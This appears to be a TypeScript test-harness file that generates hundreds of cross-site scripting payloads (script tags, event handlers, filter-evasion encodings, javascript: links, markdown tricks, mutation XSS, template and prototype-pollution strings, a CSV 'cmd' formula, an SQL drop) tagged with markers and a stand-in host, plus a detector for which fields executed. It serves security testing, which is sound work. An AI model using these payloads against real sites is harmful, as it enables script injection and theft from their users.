@@ -1,0 +1,403 @@
+/** What a payload would do if it ran: tell us, by a number that says in which field it stood and which payload it was. */
+const tells = (n: number) => `xss(${n})`;
+const elsewhere = (n: number) => `//evil.example/${n}`;
+
+type Make = (n: number) => string;
+
+/** Scripts as elements, whole, broken, nested, and breaking out of what stands around them. */
+const scripts: Make[] = [
+  '<script>{c}</script>',
+  '<SCRIPT>{c}</SCRIPT>',
+  '<ScRiPt>{c}</sCrIpT>',
+  '<script >{c}</script >',
+  '<script/x>{c}</script>',
+  '<script\t>{c}</script\t>',
+  '<script>{c}</script',
+  '<script>{c}',
+  '<script>{c}<!--',
+  '<script>{c}//',
+  '<scr<script>ipt>{c}</scr</script>ipt>',
+  '<<script>{c}//<</script>',
+  '<script type=module>{c}</script>',
+  '<script type="text/javascript">{c}</script>',
+  '<script language=vbscript>{c}</script>',
+  '<script async defer>{c}</script>',
+  '<script nonce>{c}</script>',
+  '<script src={e}></script>',
+  '<script src="http:{e}"></script>',
+  '<script src=data:,{c}></script>',
+  '<script src="data:text/javascript;base64,eHNzKDEp" data-n="{c}"></script>',
+  '<script xlink:href=data:,{c}></script>',
+  '<script>eval("{c}")</script>',
+  '<script>setTimeout("{c}")</script>',
+  '<script>import("{e}")</script>',
+  '<script>fetch("{e}")</script>',
+  '<script>document.write("<img src={e}>")</script>',
+  '<script>alert({n})</script>',
+  '<script>confirm({n})</script>',
+  '<script>location="{e}"</script>',
+  '<svg><script>{c}</script></svg>',
+  '<svg><script href=data:,{c} /></svg>',
+  '<svg><script>{c}&#x3c;/script></svg>',
+  '<math><script>{c}</script></math>',
+  '"><script>{c}</script>',
+  "'><script>{c}</script>",
+  '`><script>{c}</script>',
+  '</title><script>{c}</script>',
+  '</textarea><script>{c}</script>',
+  '</style><script>{c}</script>',
+  '</script><script>{c}</script>',
+  '</noscript><script>{c}</script>',
+  '</template><script>{c}</script>',
+  '</option></select><script>{c}</script>',
+  '--><script>{c}</script>',
+  '--!><script>{c}</script>',
+  ']]><script>{c}</script>',
+  '*/<script>{c}</script>/*',
+  '\\"><script>{c}</script>',
+  '%3Cscript%3E{c}%3C/script%3E',
+  '&lt;script&gt;{c}&lt;/script&gt;',
+  '&#60;script&#62;{c}&#60;/script&#62;',
+  '\\u003cscript\\u003e{c}\\u003c/script\\u003e',
+  '\\x3cscript\\x3e{c}\\x3c/script\\x3e',
+  '＜script＞{c}＜/script＞',
+  '‹script›{c}‹/script›',
+  '<script\u2028>{c}</script>',
+  '<\u200bscript>{c}</script>',
+  '<script\u00a0>{c}</script>',
+  '\u202e<script>{c}</script>',
+  '<!--<script>{c}</script>-->',
+  '<!--><script>{c}</script>',
+  '<!--[if true]><script>{c}</script><![endif]-->',
+  '<![CDATA[<script>{c}</script>]]>',
+  '<?xml version="1.0"?><script>{c}</script>',
+  '<? foo="><script>{c}</script>">',
+  '<! foo="><script>{c}</script>">',
+  '</ foo="><script>{c}</script>">',
+  '<xml><script>{c}</script></xml>',
+].map(filled);
+
+const elements = [
+  'img src=x',
+  'image src=x',
+  'svg',
+  'video src=x',
+  'audio src=x',
+  'body',
+  'input autofocus',
+  'select autofocus',
+  'textarea autofocus',
+  'details open',
+  'marquee',
+  'object data=x',
+  'iframe src=x',
+  'a href=# tabindex=1',
+  'div contenteditable',
+  'x tabindex=1',
+];
+const events = [
+  'onerror',
+  'onload',
+  'onfocus',
+  'onblur',
+  'ontoggle',
+  'onstart',
+  'onmouseover',
+  'onpointerenter',
+  'onanimationstart',
+  'oncontentvisibilityautostatechange',
+  'onpageshow',
+  'onbeforeinput',
+];
+/** Every element with every way of being told something. */
+const handlers: Make[] = elements.flatMap((element) => events.map((event) => filled(`<${element} ${event}={c}>`)));
+
+/** The same thing, written so that a filter would overlook it. */
+const disguises: Make[] = [
+  '<img/src=x/onerror={c}>',
+  '<img\tsrc=x\tonerror={c}>',
+  '<img\u000bsrc=x\u000bonerror={c}>',
+  '<img src=x onerror ={c}>',
+  '<img src=x onerror\t=\t{c}>',
+  '<img src=x onerror="{c}">',
+  "<img src=x onerror='{c}'>",
+  '<img src=x onerror=`{c}`>',
+  '<img src=x OnErRoR={c}>',
+  '<img src=x onerror={c}//',
+  '<img src=x onerror={c}',
+  '<img """><img src=x onerror={c}>">',
+  '<img src="x` `<img src=x onerror={c}>"` `>',
+  '<img src=x:x onerror={c}>',
+  '<img src=x onerror=&#120;ss({n})>',
+  '<img src=x onerror=&#x78;ss({n})>',
+  '<img src=x onerror=\\u0078ss({n})>',
+  '<img src=x onerror="window[\'xss\']({n})">',
+  '<img src=x onerror="top.{c}">',
+  '<img src=x onerror="(()=>{c})()">',
+  '<img src=x onerror=xss`{n}`>',
+  '<img src=x onerror="throw onerror=alert,{n}">',
+  '<img src=x onerror=eval(atob("eHNzKDEp"))//{c}>',
+  '<img src=x onerror=alert({n})>',
+  '<img src={e}>',
+  '<img srcset="{e} 1x">',
+  '<img src="//evil.example/{n}?" onerror={c}>',
+  '<<img src=x onerror={c}>',
+  '<img src=x onerror={c}><',
+  '<b><img src=x onerror={c}></b>',
+  '<img id=x src=x onerror={c}><a href=#x>',
+  '< img src=x onerror={c}>',
+  '<img src=x\u00a0onerror={c}>',
+  '<img src=x\u3000onerror={c}>',
+  '＜img src=x onerror={c}＞',
+  '\u202e<img src=x onerror={c}>\u202c',
+  '\ufeff<img src=x onerror={c}>',
+  '<ⓘmg src=x onerror={c}>',
+  '<img src=x onerror={c}>\u0301\u0301\u0301',
+  '👩‍👩‍👧<img src=x onerror={c}>🇵🇹',
+  '"onfocus={c} autofocus x="',
+  "'onfocus={c} autofocus x='",
+  '" onmouseover={c} style="position:fixed;inset:0',
+  '"/><img src=x onerror={c}>',
+  "'/><img src=x onerror={c}>",
+  '"}\'><img src=x onerror={c}>',
+  '\\"}}<img src=x onerror={c}>',
+].map(filled);
+
+const addresses = [
+  'javascript:{c}',
+  'JaVaScRiPt:{c}',
+  'javascript://%0a{c}',
+  'java\tscript:{c}',
+  '\u0001javascript:{c}',
+  ' javascript:{c}',
+  'javascript&colon;{c}',
+  '&#106;avascript:{c}',
+  '&#x6A&#x61vascript:{c}',
+  'javascript&#58;{c}',
+  '%6Aavascript:{c}',
+  'vbscript:{c}',
+  'data:text/html,<script>{c}</script>',
+  'data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=#{c}',
+  'data:image/svg+xml,<svg onload={c}>',
+  'view-source:javascript:{c}',
+  'feed:javascript:{c}',
+  'blob:javascript:{c}',
+  'file:///{c}',
+  'person:javascript:{c}',
+  'file:javascript:{c}',
+  'emoji:javascript:{c}',
+];
+const places = [
+  '{a}',
+  '<{a}>',
+  '[x]({a})',
+  '![x]({a})',
+  '[x](<{a}>)',
+  '<a href="{a}">x</a>',
+  '<a href={a}>x',
+  '<form action="{a}"><button>x',
+];
+const links: Make[] = addresses.flatMap((address) => places.map((place) => filled(place.replace('{a}', address))));
+
+/** Markdown and what hides in it. */
+const markdown: Make[] = [
+  '[<img src=x onerror={c}>](https://example.org)',
+  '![<img src=x onerror={c}>](https://example.org/x.png)',
+  '[x](https://example.org "onmouseover={c}")',
+  '![x](https://example.org/"onerror="{c})',
+  '![x"onerror="{c}](https://example.org/x.png)',
+  "[x](https://example.org' onclick={c} ')",
+  '`<img src=x onerror={c}>`',
+  '``<img src=x onerror={c}>`` <img src=x onerror={c}>',
+  '**<img src=x onerror={c}>**',
+  '~~<svg onload={c}>~~',
+  '# <svg onload={c}>',
+  '> <svg onload={c}>',
+  '- [ ] <svg onload={c}>',
+  '- [x" onclick={c}] x',
+  '|<svg onload={c}>|x|',
+  '[^1]<svg onload={c}>',
+  '<https://example.org/"onclick={c}>',
+  'https://example.org/"onmouseover={c}',
+  'https://trello.com/c/x/1-<svg-onload={c}>',
+  'https://acme.slack.com/archives/"><svg onload={c}>',
+  'https://docs.google.com/document/d/<svg onload={c}>',
+  'www.example.org/<svg onload={c}>',
+  'a@example.org"onclick={c}',
+  '[@<svg onload={c}>](person:3f2504e0-4f89-41d3-9a0c-0305e82c3301)',
+  '![<svg onload={c}>](file:3f2504e0)',
+  '[<svg onload={c}>](file:3f2504e0)',
+  ':<svg onload={c}>:',
+  'WEB-1<svg onload={c}>',
+  '[x](/t/WEB-1"onclick={c})',
+  '[x](//evil.example/{n})',
+  '![x](//evil.example/{n})',
+  '\\<svg onload={c}\\>',
+  '&lt;svg onload={c}&gt;',
+].map(filled);
+
+/** What becomes a script only when it is written and read again, or moves between HTML, SVG and MathML. */
+const mutations: Make[] = [
+  '<noscript><p title="</noscript><img src=x onerror={c}>">',
+  '<style><img title="</style><img src=x onerror={c}>">',
+  '<xmp><p title="</xmp><img src=x onerror={c}>">',
+  '<listing>&lt;img src=x onerror={c}&gt;</listing>',
+  '<textarea><img title="</textarea><img src=x onerror={c}>">',
+  '<title><img title="</title><img src=x onerror={c}>">',
+  '<iframe><img title="</iframe><img src=x onerror={c}>">',
+  '<template><img src=x onerror={c}></template>',
+  '<template shadowrootmode=open><img src=x onerror={c}></template>',
+  '<plaintext><img src=x onerror={c}>',
+  '<svg></p><style><a id="</style><img src=x onerror={c}>">',
+  '<svg><style><img src=x onerror={c}></style>',
+  '<svg><desc><img src=x onerror={c}></desc></svg>',
+  '<svg><foreignObject><img src=x onerror={c}></foreignObject></svg>',
+  '<svg><title><img src=x onerror={c}></title></svg>',
+  '<svg><a xlink:href="javascript:{c}"><text y=9>x</text></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg onload={c}>"/></svg>',
+  '<svg><animate onbegin={c} attributeName=x dur=1s>',
+  '<svg><set attributeName=href to=javascript:{c}>',
+  '<svg><image href=x onerror={c}>',
+  '<svg><discard onbegin={c}>',
+  '<svg/onload={c}>',
+  '<svg onload={c}//',
+  '<math><mi//xlink:href="data:x,<script>{c}</script>">',
+  '<math href="javascript:{c}">x</math>',
+  '<math><mtext><table><mglyph><style><img src=x onerror={c}>',
+  '<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror={c}>">',
+  '<math><annotation-xml encoding="text/html"><img src=x onerror={c}></annotation-xml></math>',
+  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={c}>',
+  '<table><td background="javascript:{c}">',
+  '<table><img src=x onerror={c}></table>',
+  '<select><svg onload={c}></select>',
+  '<isindex type=image src=x onerror={c}>',
+  '<p id="</p><img src=x onerror={c}>">',
+].map(filled);
+
+/** Frames, addresses of the page itself, styles, forms, and old friends. */
+const frames: Make[] = [
+  '<iframe src="javascript:{c}">',
+  '<iframe srcdoc="<script>parent.{c}</script>">',
+  '<iframe srcdoc="&lt;img src=x onerror=parent.{c}&gt;">',
+  '<iframe src={e}>',
+  '<iframe onload={c}>',
+  '<frameset onload={c}>',
+  '<object data="javascript:{c}">',
+  '<object data="data:text/html,<script>{c}</script>">',
+  '<embed src="javascript:{c}">',
+  '<embed src={e}>',
+  '<portal src={e}>',
+  '<base href="{e}">',
+  '<meta http-equiv=refresh content="0;url=javascript:{c}">',
+  '<meta http-equiv=refresh content="0;url={e}">',
+  '<meta http-equiv="Content-Security-Policy" content="script-src *" data-n="{c}">',
+  '<link rel=stylesheet href={e}>',
+  '<link rel=import href={e}>',
+  '<link rel=prefetch href={e}>',
+  '<link rel=preload as=script href={e} onload={c}>',
+  '<style>@import "{e}";</style>',
+  '<style>body{background:url({e})}</style>',
+  '<style>*{animation:x}@keyframes x{}</style><b style="animation:x" onanimationstart={c}>',
+  '<div style="background:url({e})">',
+  '<div style="width:expression({c})">',
+  '<div style="behavior:url({e})">',
+  '<form action="javascript:{c}"><input type=submit autofocus onfocus=click()>',
+  '<button formaction="javascript:{c}">x',
+  '<input type=image formaction="javascript:{c}">',
+  '<form id=x></form><button form=x formaction=javascript:{c}>',
+  '<video><source onerror={c}></video>',
+  '<video poster=javascript:{c}>',
+  '<audio src={e} autoplay>',
+  '<picture><source srcset={e}><img></picture>',
+  '<dialog open onclose={c}>',
+  '<div popover onbeforetoggle={c}>',
+  '<keygen autofocus onfocus={c}>',
+  '<bgsound src="javascript:{c}">',
+  '<layer src={e}>',
+  '<applet code={e}>',
+  '<body background={e}>',
+  '<html manifest={e}>',
+  '<a ping={e} href=#>x',
+  '<img lowsrc="javascript:{c}">',
+  '<img dynsrc="javascript:{c}">',
+  '<br size="&{{c}}">',
+].map(filled);
+
+/** What other machines would put a value into: templates, JSON, queries, headers, names of files. */
+const machines: Make[] = [
+  '{{constructor.constructor("{c}")()}}',
+  "{{'a'.constructor.prototype.charAt=[].join;$eval('{c}')}}",
+  '${{c}}',
+  '#{{c}}',
+  '<%={c}%>',
+  '{%if 1%}{c}{%endif%}',
+  '[[${{c}}]]',
+  '*{{c}}',
+  '@({c})',
+  '<div ng-app>{{$on.constructor("{c}")()}}</div>',
+  '<div v-html="\'<img src=x onerror={c}>\'">',
+  '<div x-init="{c}">',
+  '<div @click="{c}" :onerror="{c}">',
+  '<div hx-on:load="{c}">',
+  '<div dangerouslySetInnerHTML="{c}">',
+  '{"__html":"<img src=x onerror={c}>"}',
+  '{"$$typeof":"Symbol(react.element)","n":"{c}"}',
+  '{"__proto__":{"onerror":"{c}"}}',
+  '__proto__[onerror]={c}',
+  'constructor[prototype][x]={c}',
+  '</script>{"x":"<script>{c}</script>"}',
+  '\u2028{c}\u2029',
+  "';{c};'",
+  '";{c};"',
+  '`;{c};`',
+  '\\";{c};//',
+  '-{c}-',
+  '+{c}+',
+  "=cmd|'/c {c}'!A1",
+  '=HYPERLINK("{e}","x")',
+  "'); drop table task; --{c}",
+  '" onload="{c}" x=".png',
+  '<img src=x onerror={c}>.png',
+  'x.svg"onload="{c}',
+  '../../{c}.html',
+  'x%00.html<script>{c}</script>',
+  "x;filename*=UTF-8''%3Cscript%3E{c}",
+].map(filled);
+
+function filled(pattern: string): Make {
+  return (n) =>
+    pattern
+      .replaceAll('{c}', () => tells(n))
+      .replaceAll('{e}', () => elsewhere(n))
+      .replaceAll('{n}', () => String(n));
+}
+
+const all: readonly Make[] = [...scripts, ...handlers, ...disguises, ...links, ...markdown, ...mutations, ...frames, ...machines];
+
+/** How many there are for each field. */
+export const howMany = all.length;
+
+/** Every payload, for the field of this number. What it does says where it stood. */
+export const payloadsFor = (field: number): string[] => all.map((make, i) => make(field * 1_000 + i));
+
+/** The fields and payloads that some text of a page tells of. */
+export const toldIn = (text: string): number[] =>
+  [...text.matchAll(/(?:ss|alert|confirm|'\])\((\d{4,})\)|xss`(\d{4,})`|evil\.example\/(\d{4,})|alert,(\d{4,})/g)].map((found) =>
+    Number(found.slice(1).find((n) => n !== undefined)),
+  );
+
+/** Payloads joined to texts of at most this many characters, as few as hold them all; those that are longer are left out. */
+export function packed(field: number, most: number, between = ' '): string[] {
+  const texts: string[] = [];
+  let text = '';
+  for (const payload of payloadsFor(field).map((one) => one.trim())) {
+    if ([...payload].length > most) continue;
+    const longer = text === '' ? payload : `${text}${between}${payload}`;
+    if ([...longer].length <= most) text = longer;
+    else {
+      texts.push(text);
+      text = payload;
+    }
+  }
+  return [...texts, text];
+}
